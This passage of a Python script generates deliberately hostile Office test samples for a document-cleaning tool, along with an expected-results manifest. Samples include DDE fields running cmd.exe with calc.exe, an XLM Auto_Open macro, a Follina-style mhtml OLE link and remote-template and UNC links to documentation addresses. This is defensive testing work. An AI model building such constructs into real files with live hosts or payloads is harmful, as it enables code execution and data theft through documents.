#!/usr/bin/python3
"""Writes hostile (and clean) Office/ODF samples for the office_cdr tests.

    office_gen.py OUTDIR [--corpora DIR]

One file per active element, each with a known body text: Japanese
(「令和6年度 予算資料」) and an ASCII tag naming the sample, so a judge can
tell the text survived cleaning (the tag also survives a PDF rendering
without Japanese fonts). Some samples carry a table and a PNG picture.

The payloads are harmless: "calc.exe" strings, documentation addresses
(192.0.2.x, example.com, \\\\192.0.2.1\\share). Nothing here is ever run.

Also writes OUTDIR/manifest.tsv, one line per sample:
    file<TAB>verdict<TAB>codes<TAB>text<TAB>extension<TAB>pdf
  verdict:   changed | unchanged | removed (what the issue's policy demands)
  codes:     finding codes the report must hold, comma separated; "a|b"
             accepts either (where the policy leaves the code open); "-" none
  text:      the ASCII tag that must survive (the Japanese line is checked too)
  extension: the extension the delivered document must carry ("-": as named)
  pdf:       1 when LibreOffice must render the cleaned output to a PDF
             holding the tag

Uses python3-docx and python3-xlsxwriter (Debian packages; run with
/usr/bin/python3), then edits their output as a ZIP. The PPTX and ODF
samples are written part by part (python-pptx is not packaged in Debian 12).
"""
import io
import os
import re
import struct
import sys
import zipfile
import zlib

import docx
import xlsxwriter

JA = "令和6年度 予算資料"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = R_NS + "/"
MSREL = "http://schemas.microsoft.com/office/2006/relationships/"
MAIN_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN_DOTM = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
MAIN_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


# ---------------------------------------------------------------- bytes


def png(width=16, height=16, rgb=(200, 30, 30)):
    """A small solid PNG, written without PIL."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    raw = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def cfb(streams):
    """A minimal Compound File (OLE2), version 3, 512-byte sectors.

    `streams` maps names to bytes; each stream is padded to 4096 bytes so it
    lives in the regular FAT (no mini stream to write). At most 4 streams.
    """
    assert 1 <= len(streams) <= 3
    ENDCHAIN, FREE, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    datas = [(n, d.ljust(4096, b"\x00")) for n, d in streams.items()]
    fat = [FATSECT, ENDCHAIN]  # sector 0: FAT, sector 1: directory
    starts = []
    for _, d in datas:
        start = len(fat)
        starts.append(start)
        count = len(d) // 512
        fat += [start + i + 1 for i in range(count - 1)] + [ENDCHAIN]
    assert len(fat) <= 128
    fat += [FREE] * (128 - len(fat))

    def entry(name, kind, left, right, child, start, size, color=1):
        n = name.encode("utf-16-le") + b"\x00\x00"
        return (n.ljust(64, b"\x00") + struct.pack("<HBB", len(n), kind, color) +
                struct.pack("<III", left, right, child) + b"\x00" * 16 + b"\x00" * 4 + b"\x00" * 16 +
                struct.pack("<IIII", start, size, 0, 0)[:8] + b"\x00" * 4)
    # Streams hang as a right-leaning chain under the root (a valid, if
    # unbalanced, red-black tree when every node is black).
    dirs = [entry("Root Entry", 5, NOSTREAM, NOSTREAM, 1, ENDCHAIN, 0)]
    for i, ((name, d), start) in enumerate(zip(datas, starts)):
        right = i + 2 if i + 1 < len(datas) else NOSTREAM
        dirs.append(entry(name, 2, NOSTREAM, right, NOSTREAM, start, len(d)))
    empty = b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", NOSTREAM, NOSTREAM, NOSTREAM) + b"\x00" * 48
    while len(dirs) < 4:
        dirs.append(empty)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) +
              b"\x00" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, ENDCHAIN, 0, ENDCHAIN, 0) +
              struct.pack("<I", 0) + struct.pack("<I", FREE) * 108)
    assert len(header) == 512
    out = header + struct.pack("<128I", *fat) + b"".join(dirs)
    for _, d in datas:
        out += d
    return out


def ole10native():
    """An OLE Package object (Ole10Native) naming calc.exe: the shape of a
    'packager' payload, harmless bytes."""
    label, path = b"calc.exe\x00", b"C:\\Windows\\System32\\calc.exe\x00"
    body = struct.pack("<H", 2) + label + path + struct.pack("<I", 0x30000) + struct.pack("<I", len(path)) + path
    payload = b"harmless test payload: calc.exe\x00"
    body += struct.pack("<I", len(payload)) + payload
    return struct.pack("<I", len(body)) + body


def ole_object_bin():
    return cfb({"\x01Ole10Native": ole10native(), "\x01CompObj": b"\x01\x00\xfe\xff" + b"Package\x00"})


def vba_project_bin(corpora):
    for p in ("/usr/share/doc/python3-xlsxwriter/examples/vbaProject.bin",):
        if os.path.exists(p):
            return open(p, "rb").read()
    if corpora:
        with zipfile.ZipFile(os.path.join(corpora, "oletools/test-data/oleform/oleform-PR314.docm")) as z:
            return z.read("word/vbaProject.bin")
    sys.exit("office_gen: no vbaProject.bin found (python3-xlsxwriter examples or --corpora)")


# ---------------------------------------------------------------- packages


class Pkg:
    """An OPC/ODF package held as an ordered dict of parts, edited as text."""

    def __init__(self, data=None):
        self.parts = {}
        if data:
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                for n in z.namelist():
                    self.parts[n] = z.read(n)

    def text(self, name):
        return self.parts[name].decode("utf-8")

    def put(self, name, data):
        self.parts[name] = data.encode("utf-8") if isinstance(data, str) else data

    def edit(self, name, fn):
        self.put(name, fn(self.text(name)))

    def rels_name(self, source):
        d, f = os.path.split(source)
        return (d + "/" if d else "") + "_rels/" + f + ".rels"

    def add_rel(self, source, rid, rtype, target, external=False):
        rn = self.rels_name(source)
        if rn not in self.parts:
            self.put(rn, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
        mode = ' TargetMode="External"' if external else ""
        rel = f'<Relationship Id="{rid}" Type="{rtype}" Target="{esc(target)}"{mode}/>'
        self.edit(rn, lambda s: s.replace("</Relationships>", rel + "</Relationships>"))

    def override(self, part, ctype):
        ov = f'<Override PartName="/{part}" ContentType="{ctype}"/>'
        self.edit("[Content_Types].xml", lambda s: s.replace("</Types>", ov + "</Types>"))

    def default(self, ext, ctype):
        if f'Extension="{ext}"' in self.text("[Content_Types].xml"):
            return
        d = f'<Default Extension="{ext}" ContentType="{ctype}"/>'
        self.edit("[Content_Types].xml", lambda s: s.replace("</Types>", d + "</Types>"))

    def set_type(self, part, ctype):
        self.edit("[Content_Types].xml",
                  lambda s: re.sub(r'(PartName="/' + re.escape(part) + r'" ContentType=")[^"]*', r"\g<1>" + ctype, s))

    def data(self):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
            order = [n for n in ("mimetype", "[Content_Types].xml") if n in self.parts]
            for n in order + [n for n in self.parts if n not in order]:
                z.writestr(zipfile.ZipInfo(n, (2024, 4, 1, 9, 0, 0)), self.parts[n],
                           zipfile.ZIP_STORED if n == "mimetype" else zipfile.ZIP_DEFLATED)
        return b.getvalue()


def ensure_r_ns(xml):
    """Declares the relationships namespace on the root element if absent."""
    if 'xmlns:r="' in xml:
        return xml
    return re.sub(r"(<\?xml[^>]*\?>\s*<[\w:]+)", r'\1 xmlns:r="' + R_NS + '"', xml, count=1)


# ---------------------------------------------------------------- Word


def base_docx(tag, table=False, picture=False):
    d = docx.Document()
    d.add_heading(JA, level=1)
    d.add_paragraph(f"{JA} {tag}")
    d.add_paragraph("本文: 庁内連絡用の文書です。")
    if table:
        t = d.add_table(rows=2, cols=2)
        for (r, c), s in {(0, 0): "項目", (0, 1): "金額", (1, 0): "消耗品費", (1, 1): "120,000円"}.items():
            t.cell(r, c).text = s
    if picture:
        d.add_picture(io.BytesIO(png()))
    b = io.BytesIO()
    d.save(b)
    return Pkg(b.getvalue())


def add_body(pkg, xml):
    """Appends body-level XML just before the final w:sectPr."""
    def put(s):
        i = s.rfind("<w:sectPr")
        return s[:i] + xml + s[i:]
    pkg.edit("word/document.xml", put)


def field_paragraph(instr, result="field result"):
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {esc(instr)} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{esc(result)}</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def docx_remote_template(pkg):
    pkg.edit("word/settings.xml", lambda s: re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl1"/>',
                                                   ensure_r_ns(s), count=1))
    pkg.add_rel("word/settings.xml", "rIdTpl1", REL + "attachedTemplate", "http://192.0.2.1/template.dotm", True)


def docx_vba(pkg, main_type):
    pkg.set_type("word/document.xml", main_type)
    pkg.put("word/vbaProject.bin", VBA)
    pkg.default("bin", "application/vnd.ms-office.vbaProject")
    pkg.add_rel("word/document.xml", "rIdVba1", MSREL + "vbaProject", "vbaProject.bin")
    pkg.put("word/vbaData.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">'
            '<wne:mcds><wne:mcd wne:macroName="PROJECT.NEWMACROS.AUTOOPEN" wne:name="Project.NewMacros.AutoOpen" '
            'wne:bEncrypt="00" wne:cmg="56"/></wne:mcds></wne:vbaSuppData>')
    pkg.override("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
    pkg.add_rel("word/vbaProject.bin", "rId1", MSREL + "wordVbaData", "vbaData.xml")


def ole_object_xml(rid, kind, shape="_x0000_i1025"):
    return (f'<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="720"><v:shape id="{shape}" type="#_x0000_t75" '
            f'style="width:72pt;height:36pt" o:ole=""/><o:OLEObject Type="{kind}" ProgID="Package" ShapeID="{shape}" '
            f'DrawAspect="Icon" ObjectID="_1700000001" r:id="{rid}"'
            + (' UpdateMode="Always"' if kind == "Link" else "") + '/></w:object></w:r></w:p>')


def word_samples():
    out = []

    def sample(name, verdict, codes, build, ext="-", table=False, picture=False, pdf=1):
        tag = "sample-" + re.sub(r"[^a-z0-9]+", "-", name.lower())
        pkg = base_docx(tag, table, picture)
        if build:
            build(pkg)
        out.append((name, pkg.data(), verdict, codes, tag, ext, pdf))

    sample("clean-ja-word.docx", "unchanged", "-", None, table=True, picture=True)
    sample("remote-template.docx", "changed", "office.external_relationship_removed", docx_remote_template)
    sample("ddeauto-field.docx", "changed", "office.dde_removed",
           lambda p: add_body(p, field_paragraph('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')))
    sample("dde-fldsimple.docx", "changed", "office.dde_removed",
           lambda p: add_body(p, '<w:p><w:fldSimple w:instr=\' DDE "c:\\\\windows\\\\system32\\\\cmd.exe" '
                                 '"/c calc.exe" "x" \'><w:r><w:t>dde result</w:t></w:r></w:fldSimple></w:p>'))
    sample("includepicture-field.docx", "changed", "office.field_removed",
           lambda p: add_body(p, field_paragraph('INCLUDEPICTURE "http://192.0.2.1/pixel.png" \\d')))
    sample("includetext-field.docx", "changed", "office.field_removed",
           lambda p: add_body(p, field_paragraph('INCLUDETEXT "\\\\\\\\192.0.2.1\\\\share\\\\a.docx"')))

    def follina(p):
        p.add_rel("word/document.xml", "rIdOle9", REL + "oleObject",
                  "mhtml:http://192.0.2.1/x.html!x-usc:http://192.0.2.1/x.html", True)
        add_body(p, ole_object_xml("rIdOle9", "Link"))
    sample("follina-oleobject-link.docx", "changed", "office.external_relationship_removed|office.ole_object_removed",
           follina)

    def embedded(p):
        p.put("word/embeddings/oleObject1.bin", ole_object_bin())
        p.default("bin", "application/vnd.openxmlformats-officedocument.oleObject")
        p.add_rel("word/document.xml", "rIdOle1", REL + "oleObject", "embeddings/oleObject1.bin")
        add_body(p, ole_object_xml("rIdOle1", "Embed"))
    sample("embedded-oleobject.docx", "changed", "office.ole_object_removed", embedded, table=True)

    def activex(p):
        p.put("word/activeX/activeX1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
              '<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" r:id="rId1" '
              'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="' + R_NS + '"/>')
        p.put("word/activeX/activeX1.bin", cfb({"Contents": b"CheckBox1 calc.exe harmless"}))
        p.override("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
        p.override("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX")
        p.add_rel("word/activeX/activeX1.xml", "rId1", MSREL + "activeXControlBinary", "activeX1.bin")
        p.add_rel("word/document.xml", "rIdAx1", REL + "control", "activeX/activeX1.xml")
        add_body(p, '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="360"><v:shape id="_x0000_i1026" '
                    'type="#_x0000_t75" style="width:72pt;height:18pt"/><w:control r:id="rIdAx1" '
                    'w:name="CheckBox1" w:shapeid="_x0000_i1026"/></w:object></w:r></w:p>')
    sample("activex-control.docx", "changed", "office.activex_removed", activex)

    def customui(p):
        p.put("customUI/customUI.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" '
              'onLoad="Ribbon_OnLoad"><ribbon><tabs><tab id="t1" label="calc.exe"><group id="g1" label="g">'
              '<button id="b1" label="run" onAction="Module1.Run"/></group></tab></tabs></ribbon></customUI>')
        p.add_rel("", "rIdUi1", MSREL + "ui/extensibility", "customUI/customUI.xml")
    sample("customui-onload.docx", "changed", "office.customui_removed", customui)

    def altchunk(p):
        p.put("word/afchunk.htm", "<html><body><p>altChunk body http://192.0.2.1/ calc.exe</p></body></html>")
        p.default("htm", "text/html")
        p.add_rel("word/document.xml", "rIdAlt1", REL + "aFChunk", "afchunk.htm")
        add_body(p, '<w:altChunk r:id="rIdAlt1"/>')
    sample("altchunk.docx", "changed", "office.altchunk_removed", altchunk)

    def subdoc(p):
        p.add_rel("word/document.xml", "rIdSub1", REL + "subDocument", "file:///\\\\192.0.2.1\\share\\sub.docx", True)
        add_body(p, '<w:p><w:subDoc r:id="rIdSub1"/></w:p>')
    sample("subdocument-external.docx", "changed", "office.external_relationship_removed", subdoc)

    def frameset(p):
        p.edit("word/webSettings.xml", lambda s: re.sub(
            r"(<w:webSettings[^>]*>)", r'\1<w:frameset><w:frame><w:name w:val="f1"/>'
            r'<w:sourceFileName r:id="rIdFr1"/></w:frame></w:frameset>', ensure_r_ns(s), count=1))
        p.add_rel("word/webSettings.xml", "rIdFr1", REL + "frame", "http://192.0.2.1/frame.html", True)
    sample("frameset-websettings.docx", "changed", "office.external_relationship_removed", frameset)

    def image_link(p):
        p.add_rel("word/document.xml", "rIdImgL1", REL + "image", "http://192.0.2.1/tracker.png", True)

        def dup(s):
            m = re.search(r"<w:drawing>.*?</w:drawing>", s, re.S)
            d = re.sub(r'r:embed="[^"]*"', 'r:link="rIdImgL1"', m.group(0))
            d = re.sub(r'(<wp:docPr[^>]*\bid=")\d+', r"\g<1>4242", d)
            i = s.rfind("<w:sectPr")
            return s[:i] + "<w:p><w:r>" + d + "</w:r></w:p>" + s[i:]
        p.edit("word/document.xml", dup)
    sample("image-linked-url.docx", "changed", "office.external_relationship_removed", image_link, picture=True)

    def hyperlink(p):
        p.add_rel("word/document.xml", "rIdH1", REL + "hyperlink", "http://example.com/予算", True)
        add_body(p, '<w:p><w:hyperlink r:id="rIdH1"><w:r><w:t>hyperlink text example.com</w:t></w:r>'
                    '</w:hyperlink></w:p>')
    sample("hyperlink-external.docx", "changed", "office.hyperlink_removed", hyperlink)

    def dotm(p):
        docx_vba(p, MAIN_DOTM)
        docx_remote_template(p)
    sample("template-macro.dotm", "changed", "office.vba_removed,office.external_relationship_removed", dotm, ext="dotx")
    sample("macro-vba-word.docm", "changed", "office.vba_removed", lambda p: docx_vba(p, MAIN_DOCM), ext="docx", table=True)
    return out


# ---------------------------------------------------------------- Excel


def base_xlsx(tag, vba=False, table=False, picture=False):
    b = io.BytesIO()
    wb = xlsxwriter.Workbook(b, {"in_memory": True})
    ws = wb.add_worksheet("予算")
    ws.write("A1", f"{JA} {tag}")
    ws.write("A2", "消耗品費")
    ws.write_number("B2", 120000)
    if table:
        ws.add_table("A4:B6", {"data": [["印刷費", 5000], ["通信費", 8000]],
                               "columns": [{"header": "項目"}, {"header": "金額"}]})
    if picture:
        ws.insert_image("D2", "chart.png", {"image_data": io.BytesIO(png())})
    if vba:
        wb.add_vba_project(VBA_PATH or io.BytesIO(VBA), is_stream=VBA_PATH is None)
    wb.close()
    return Pkg(b.getvalue())


def add_workbook_child(pkg, xml_after_sheets):
    pkg.edit("xl/workbook.xml", lambda s: s.replace("</sheets>", "</sheets>" + xml_after_sheets, 1))


def set_cell_formula(pkg, cell, formula, cached):
    """Adds a row 3 cell holding `formula` with a cached value to sheet1."""
    c = f'<c r="{cell}"><f>{esc(formula)}</f><v>{cached}</v></c>'
    pkg.edit("xl/worksheets/sheet1.xml", lambda s: s.replace("</sheetData>", f'<row r="3">{c}</row></sheetData>', 1)
             if "<row r=\"3\"" not in s else s)


def excel_samples():
    out = []

    def sample(name, verdict, codes, build, ext="-", vba=False, table=False, picture=False, pdf=1):
        tag = "sample-" + re.sub(r"[^a-z0-9]+", "-", name.lower())
        pkg = base_xlsx(tag, vba, table, picture)
        if build:
            build(pkg)
        out.append((name, pkg.data(), verdict, codes, tag, ext, pdf))

    sample("clean-ja-excel.xlsx", "unchanged", "-", None, table=True, picture=True)

    def external(p):
        p.put("xl/externalLinks/externalLink1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="' + R_NS +
              '"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet>'
              '<sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row></sheetData></sheetDataSet>'
              '</externalBook></externalLink>')
        p.override("xl/externalLinks/externalLink1.xml",
                   "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
        p.add_rel("xl/externalLinks/externalLink1.xml", "rId1", REL + "externalLinkPath",
                  "file:///\\\\192.0.2.1\\share\\book.xlsx", True)
        p.add_rel("xl/workbook.xml", "rIdExt1", REL + "externalLink", "externalLinks/externalLink1.xml")
        add_workbook_child(p, '<externalReferences><externalReference r:id="rIdExt1"/></externalReferences>')
        set_cell_formula(p, "A3", "[1]Sheet1!A1", 42)
    sample("external-link-unc.xlsx", "changed", "office.external_relationship_removed", external)

    sample("dde-formula.xlsx", "changed", "office.dde_removed",
           lambda p: set_cell_formula(p, "A3", "cmd|' /C calc.exe'!A0", 0))

    def dde_link(p):
        p.put("xl/externalLinks/externalLink1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              '<ddeLink ddeService="cmd" ddeTopic=" /C calc.exe"><ddeItems><ddeItem name="A0" advise="1">'
              '<values><value><val>0</val></value></values></ddeItem></ddeItems></ddeLink></externalLink>')
        p.override("xl/externalLinks/externalLink1.xml",
                   "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
        p.add_rel("xl/workbook.xml", "rIdExt1", REL + "externalLink", "externalLinks/externalLink1.xml")
        add_workbook_child(p, '<externalReferences><externalReference r:id="rIdExt1"/></externalReferences>')
        set_cell_formula(p, "A3", "[1]!A0", 0)
    sample("dde-link-part.xlsx", "changed", "office.dde_removed|office.external_relationship_removed", dde_link)

    def xlm(p):
        p.put("xl/macrosheets/sheet1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="' + R_NS +
              '" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
              '<row r="1"><c r="A1" t="b"><f>EXEC("calc.exe")</f><v>1</v></c></row>'
              '<row r="2"><c r="A2" t="b"><f>HALT()</f><v>1</v></c></row></sheetData></xm:macrosheet>')
        p.override("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")
        p.add_rel("xl/workbook.xml", "rIdXlm1", MSREL + "xlMacrosheet", "macrosheets/sheet1.xml")
        p.edit("xl/workbook.xml", lambda s: s.replace(
            "</sheets>", '<sheet name="Macro1" sheetId="9" state="hidden" r:id="rIdXlm1"/></sheets>'
            '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>', 1))
        p.set_type("xl/workbook.xml", MAIN_XLSM)
    sample("xlm-macrosheet-auto-open.xlsm", "changed", "office.xlm_removed", xlm, ext="xlsx")

    def connection(p):
        p.put("xl/connections.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
              'name="web" type="4" refreshedVersion="6" background="1" refreshOnLoad="1" saveData="1">'
              '<webPr sourceData="1" parsePre="1" consecutive="1" xl2000="1" url="http://192.0.2.1/q.iqy" '
              'htmlTables="1"/></connection></connections>')
        p.override("xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
        p.add_rel("xl/workbook.xml", "rIdCon1", REL + "connections", "connections.xml")
        p.put("xl/queryTables/queryTable1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="web_1" '
              'connectionId="1" autoFormatId="16" applyNumberFormats="0" applyBorderFormats="0" applyFontFormats="1" '
              'applyPatternFormats="1" applyAlignmentFormats="0" applyWidthHeightFormats="0"/>')
        p.override("xl/queryTables/queryTable1.xml",
                   "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml")
        p.add_rel("xl/worksheets/sheet1.xml", "rIdQt1", REL + "queryTable", "../queryTables/queryTable1.xml")
    sample("data-connection-webquery.xlsx", "changed", "office.data_connection_removed", connection)

    def webext(p):
        p.put("xl/webextensions/taskpanes.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11">'
              '<wetp:taskpane dockstate="right" visibility="1" width="350" row="4"><wetp:webextensionref '
              'xmlns:r="' + R_NS + '" r:id="rId1"/></wetp:taskpane></wetp:taskpanes>')
        p.put("xl/webextensions/webextension1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" '
              'id="{52811C31-4593-43B8-A697-EB873422D156}"><we:reference id="wa000000000" version="1.0.0.0" '
              'store="https://example.com/addin.xml" storeType="Filesystem"/><we:alternateReferences/>'
              '<we:properties/><we:bindings/><we:snapshot xmlns:r="' + R_NS + '"/></we:webextension>')
        p.override("xl/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml")
        p.override("xl/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml")
        p.add_rel("xl/webextensions/taskpanes.xml", "rId1",
                  "http://schemas.microsoft.com/office/2011/relationships/webextension", "webextension1.xml")
        p.add_rel("", "rIdWe1", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                  "xl/webextensions/taskpanes.xml")
    sample("webextension-addin.xlsx", "changed", "office.addin_removed", webext)
    sample("macro-vba-excel.xlsm", "changed", "office.vba_removed", None, ext="xlsx", vba=True, table=True)
    return out


# ---------------------------------------------------------------- PowerPoint

P_NS = ('xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="' + R_NS +
        '" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"')
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
SP_TREE_HEAD = ('<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>'
                '<p:grpSpPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/><a:chOff x="0" y="0"/>'
                '<a:chExt cx="0" cy="0"/></a:xfrm></p:grpSpPr>')


def text_box(shape_id, text, y, click=""):
    return (f'<p:sp><p:nvSpPr><p:cNvPr id="{shape_id}" name="Text {shape_id}">{click}</p:cNvPr>'
            '<p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>'
            f'<p:spPr><a:xfrm><a:off x="457200" y="{y}"/><a:ext cx="8000000" cy="600000"/></a:xfrm>'
            '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
            f'<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP"/><a:t>{esc(text)}</a:t></a:r></a:p>'
            '</p:txBody></p:sp>')


def pptx_table():
    def cell(t):
        return f'<a:tc><a:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>{t}</a:t></a:r></a:p></a:txBody><a:tcPr/></a:tc>'
    rows = "".join(f'<a:tr h="370840">{cell(a)}{cell(b)}</a:tr>' for a, b in (("項目", "金額"), ("印刷費", "5,000円")))
    return ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="20" name="Table 20"/><p:cNvGraphicFramePr>'
            '<a:graphicFrameLocks noGrp="1"/></p:cNvGraphicFramePr><p:nvPr/></p:nvGraphicFramePr>'
            '<p:xfrm><a:off x="457200" y="2400000"/><a:ext cx="4000000" cy="741680"/></p:xfrm><a:graphic>'
            '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/table"><a:tbl><a:tblPr firstRow="1"/>'
            '<a:tblGrid><a:gridCol w="2000000"/><a:gridCol w="2000000"/></a:tblGrid>' + rows +
            '</a:tbl></a:graphicData></a:graphic></p:graphicFrame>')


def pptx_picture(rid):
    return ('<p:pic><p:nvPicPr><p:cNvPr id="21" name="Picture 21"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
            f'<p:blipFill><a:blip r:embed="{rid}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
            '<p:spPr><a:xfrm><a:off x="5000000" y="2400000"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
            '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')


def ole_frame(rid, inner):
    return ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="30" name="Object 30"/><p:cNvGraphicFramePr/><p:nvPr/>'
            '</p:nvGraphicFramePr><p:xfrm><a:off x="457200" y="3600000"/><a:ext cx="914400" cy="457200"/></p:xfrm>'
            '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
            f'<p:oleObj spid="_x0000_s1030" name="Package" r:id="{rid}" imgW="914400" imgH="457200" progId="Package">'
            f'{inner}</p:oleObj></a:graphicData></a:graphic></p:graphicFrame>')


def base_pptx(theme, tag, extra_shapes="", table=False, picture=False):
    p = Pkg()
    p.put("[Content_Types].xml", XML_DECL + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="png" ContentType="image/png"/>'
          '<Override PartName="/ppt/presentation.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>'
          '<Override PartName="/ppt/slideMasters/slideMaster1.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"/>'
          '<Override PartName="/ppt/slideLayouts/slideLayout1.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"/>'
          '<Override PartName="/ppt/slides/slide1.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>'
          '<Override PartName="/ppt/theme/theme1.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.theme+xml"/></Types>')
    p.add_rel("", "rId1", REL + "officeDocument", "ppt/presentation.xml")
    p.put("ppt/presentation.xml", XML_DECL + f'<p:presentation {P_NS}><p:sldMasterIdLst><p:sldMasterId id="2147483648" '
          'r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
          '<p:sldSz cx="9144000" cy="6858000" type="screen4x3"/><p:notesSz cx="6858000" cy="9144000"/>'
          '</p:presentation>')
    p.add_rel("ppt/presentation.xml", "rId1", REL + "slideMaster", "slideMasters/slideMaster1.xml")
    p.add_rel("ppt/presentation.xml", "rId2", REL + "slide", "slides/slide1.xml")
    p.add_rel("ppt/presentation.xml", "rId3", REL + "theme", "theme/theme1.xml")
    p.put("ppt/theme/theme1.xml", theme)
    p.put("ppt/slideMasters/slideMaster1.xml", XML_DECL + f'<p:sldMaster {P_NS}><p:cSld><p:spTree>{SP_TREE_HEAD}'
          '</p:spTree></p:cSld><p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" '
